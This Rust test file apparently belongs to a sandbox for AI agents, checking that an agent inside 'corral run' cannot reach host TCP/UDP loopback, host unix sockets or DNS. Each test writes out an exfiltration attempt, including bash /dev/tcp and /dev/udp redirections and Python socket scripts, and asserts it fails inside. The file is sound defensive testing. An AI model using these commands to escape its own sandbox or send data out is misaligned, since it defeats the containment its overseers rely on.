//! Escape suite (T3), network: with the default profile (`network.mode = "none"`) an agent inside
//! `corral run` has only its own loopback. It cannot reach a TCP or UDP service on the host's
//! loopback, a host abstract unix socket (they live in the network namespace), a host pathname
//! socket in /tmp (the sandbox's /tmp is private), or any address outside (no route, so no DNS
//! query leaves either).
//!
//! One attack per test: the listener is set up outside (by the test process itself, in the host's
//! namespaces), the connection is attempted inside, and the test asserts that nothing arrived.
//! Every test also makes the same attempt **outside** the sandbox, as the same user, and asserts
//! that it arrives, so a test that could not see an escape fails instead of passing vacuously.
//! Listeners are non-blocking and only polled after the attempt: no thread, no unbounded wait.

// Helpers outside #[test] functions panic on a failed set-up, like the tests themselves.
#![allow(clippy::unwrap_used)]

mod common;
use common::*;

use std::io::Read;
use std::net::{TcpListener, UdpSocket};
use std::os::linux::net::SocketAddrExt;
use std::os::unix::fs::PermissionsExt;
use std::os::unix::net::{SocketAddr, UnixListener};
use std::path::PathBuf;
use std::sync::OnceLock;

/// True when sandboxes can be started here; tests call `return skip(..)` otherwise.
fn ready() -> bool {
    static READY: OnceLock<bool> = OnceLock::new();
    *READY.get_or_init(userns_available)
}

const NO_SANDBOX: &str = "cannot start a sandbox here (user namespaces unavailable?)";

/// `sh -c SCRIPT` outside; returns (exit code, stdout).
fn outside(fx: &Fixture, script: &str) -> (Option<i32>, String) {
    let o = fx.sh_outside(script);
    (o.status.code(), stdout(&o))
}

/// `corral run -- sh -c SCRIPT`; returns (exit code, stdout).
fn inside(fx: &Fixture, script: &str) -> (Option<i32>, String) {
    let o = fx.sh(script);
    (o.status.code(), stdout(&o))
}

/// Accepts one pending connection on a non-blocking TCP listener, reading what was sent.
fn tcp_arrived(l: &TcpListener) -> Option<String> {
    match l.accept() {
        Ok((mut s, _)) => {
            s.set_nonblocking(false).unwrap();
            s.set_read_timeout(Some(std::time::Duration::from_secs(5)))
                .unwrap();
            let mut got = String::new();
            let _ = s.read_to_string(&mut got);
            Some(got)
        }
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => None,
        Err(e) => panic!("accept: {e}"),
    }
}

/// Takes one pending datagram from a non-blocking UDP socket.
fn udp_arrived(s: &UdpSocket) -> Option<String> {
    let mut buf = [0u8; 512];
    match s.recv(&mut buf) {
        Ok(n) => Some(String::from_utf8_lossy(&buf[..n]).into_owned()),
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => None,
        Err(e) => panic!("recv: {e}"),
    }
}

#[test]
fn host_loopback_tcp_listener_is_unreachable() {
    let fx = Fixture::new();
    let l = TcpListener::bind("127.0.0.1:0").unwrap();
    l.set_nonblocking(true).unwrap();
    let port = l.local_addr().unwrap().port();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let attack = format!("exec bash -c 'echo exfil > /dev/tcp/127.0.0.1/{port}' 2>/dev/null");
    assert_eq!(outside(&fx, &attack), (Some(0), String::new()));
    assert_eq!(tcp_arrived(&l).as_deref(), Some("exfil\n"), "control");
    // Inside: connect(2) fails (Landlock allows no port; nothing listens on the sandbox's own lo).
    assert_eq!(inside(&fx, &attack), (Some(1), String::new()));
    assert_eq!(
        tcp_arrived(&l),
        None,
        "a connection from the sandbox reached the host"
    );
}

#[test]
fn udp_to_host_loopback_does_not_arrive() {
    let fx = Fixture::new();
    let s = UdpSocket::bind("127.0.0.1:0").unwrap();
    s.set_nonblocking(true).unwrap();
    let port = s.local_addr().unwrap().port();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let attack = format!("bash -c 'echo exfil > /dev/udp/127.0.0.1/{port}' 2>/dev/null; echo rc=$?");
    assert_eq!(outside(&fx, &attack), (Some(0), "rc=0\n".into()));
    assert_eq!(udp_arrived(&s).as_deref(), Some("exfil\n"), "control");
    // Inside, the send "succeeds" onto the sandbox's own loopback, where nothing listens.
    let got = inside(&fx, &attack);
    assert_eq!(
        udp_arrived(&s),
        None,
        "a datagram from the sandbox reached the host ({got:?})"
    );
    assert_eq!(got, (Some(0), "rc=0\n".into()));
}

#[test]
fn host_abstract_unix_socket_is_unreachable() {
    let fx = Fixture::new();
    let name = format!("corral-escape-{}-abstract", std::process::id());
    let addr = SocketAddr::from_abstract_name(name.as_bytes()).unwrap();
    let l = UnixListener::bind_addr(&addr).unwrap();
    l.set_nonblocking(true).unwrap();
    fx.ws_file(
        "connect.py",
        &format!(
            "import socket\n\
             s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n\
             try:\n    s.connect('\\0{name}'); s.sendall(b'exfil'); print('connected')\n\
             except OSError as e:\n    print('errno', e.errno)\n"
        ),
    );
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let accepted = |l: &UnixListener| match l.accept() {
        Ok(_) => true,
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => false,
        Err(e) => panic!("accept: {e}"),
    };
    assert_eq!(
        outside(&fx, "exec python3 connect.py"),
        (Some(0), "connected\n".into())
    );
    assert!(accepted(&l), "control");
    // Inside: abstract names belong to the network namespace (ECONNREFUSED: no such name there),
    // and Landlock's abstract-socket scoping (EPERM) would stop it too.
    let got = inside(&fx, "exec python3 connect.py");
    assert!(
        !accepted(&l),
        "the sandbox connected to a host abstract socket ({got:?})"
    );
    assert!(
        got == (Some(0), "errno 111\n".into()) || got == (Some(0), "errno 1\n".into()),
        "{got:?}"
    );
}

#[test]
fn host_unix_socket_in_tmp_is_unreachable() {
    // Like an ssh-agent or X11 socket in the host's /tmp.
    let fx = Fixture::new();
    let path = PathBuf::from(format!("/tmp/corral-escape-{}-agent.sock", std::process::id()));
    let _ = std::fs::remove_file(&path);
    let l = UnixListener::bind(&path).unwrap();
    let _cleanup = RemoveOnDrop(path.clone());
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o777)).unwrap();
    l.set_nonblocking(true).unwrap();
    fx.ws_file(
        "connect.py",
        &format!(
            "import socket\n\
             s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n\
             try:\n    s.connect('{}'); print('connected')\n\
             except OSError as e:\n    print('errno', e.errno)\n",
            path.display()
        ),
    );
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let accepted = |l: &UnixListener| match l.accept() {
        Ok(_) => true,
        Err(e) if e.kind() == std::io::ErrorKind::WouldBlock => false,
        Err(e) => panic!("accept: {e}"),
    };
    assert_eq!(
        outside(&fx, "exec python3 connect.py"),
        (Some(0), "connected\n".into())
    );
    assert!(accepted(&l), "control");
    // ENOENT: the sandbox's /tmp is its own.
    assert_eq!(
        inside(&fx, "exec python3 connect.py"),
        (Some(0), "errno 2\n".into())
    );
    assert!(!accepted(&l));
}

/// Removes a socket file planted in the host's /tmp when dropped.
#[derive(Debug)]
struct RemoveOnDrop(PathBuf);

impl Drop for RemoveOnDrop {
    fn drop(&mut self) {
        let _ = std::fs::remove_file(&self.0);
    }
}

#[test]
fn only_loopback_interface_exists() {
    let fx = Fixture::new();
    if !ready() {
        return skip(NO_SANDBOX);
    }
    // Interface names from /proc/net/dev (two header lines, then `name: counters`).
    let names = "tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d ' '";
    let (code, out) = outside(&fx, names);
    assert_eq!(code, Some(0));
    assert!(
        out.lines().any(|l| l != "lo"),
        "control: the host has no interface besides lo: {out}"
    );
    assert_eq!(inside(&fx, names), (Some(0), "lo\n".into()));
    let (code, out) = inside(&fx, "ip -o link | cut -d: -f2 | tr -d ' '");
    assert_eq!((code, out.as_str()), (Some(0), "lo\n"));
}

#[test]
fn dns_query_cannot_leave() {
    // A DNS query for example.com (exfiltration through DNS needs only this) sent to the host's
    // configured resolver. Outside the datagram leaves (sendto returns its length, whether or not
    // a server answers); inside there is no route: ENETUNREACH (101).
    let fx = Fixture::new();
    fx.ws_file(
        "dns.py",
        "import socket\n\
         ns = next((l.split()[1] for l in open('/etc/resolv.conf') if l.startswith('nameserver')), '8.8.8.8')\n\
         q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x07example\\x03com\\x00\\x00\\x01\\x00\\x01'\n\
         fam = socket.AF_INET6 if ':' in ns else socket.AF_INET\n\
         s = socket.socket(fam, socket.SOCK_DGRAM)\n\
         try:\n    print('sent', s.sendto(q, (ns, 53)))\n\
         except OSError as e:\n    print('errno', e.errno)\n",
    );
    if !ready() {
        return skip(NO_SANDBOX);
    }
    let (code, out) = outside(&fx, "exec python3 dns.py");
    if out == "errno 101\n" {
        return skip("the host itself has no route to its resolver");
    }
    assert_eq!((code, out.as_str()), (Some(0), "sent 29\n"), "control");
    assert_eq!(
        inside(&fx, "exec python3 dns.py"),
        (Some(0), "errno 101\n".into())
    );
    // And the resolver library finds nothing (example.com is in no /etc/hosts).
    assert_eq!(
        inside(&fx, "getent hosts example.com; echo rc=$?"),
        (Some(0), "rc=2\n".into())
    );
}
